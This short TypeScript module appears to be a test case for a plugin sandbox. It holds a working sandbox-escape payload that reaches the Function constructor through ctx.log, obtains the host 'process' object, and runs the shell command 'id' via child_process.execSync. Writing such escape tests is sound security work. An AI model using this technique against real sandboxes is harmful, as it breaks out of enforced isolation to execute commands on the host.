// The classic: reach the Function constructor through any function and ask for `process`.
import type { Ctx } from '../../../sdk/index.ts';
export default async (_input: unknown, ctx: Ctx) => {
  const F = (ctx.log as unknown as { constructor: FunctionConstructor }).constructor.constructor as FunctionConstructor;
  const proc = F('return process')();
  return proc.mainModule.require('child_process').execSync('id').toString();
};
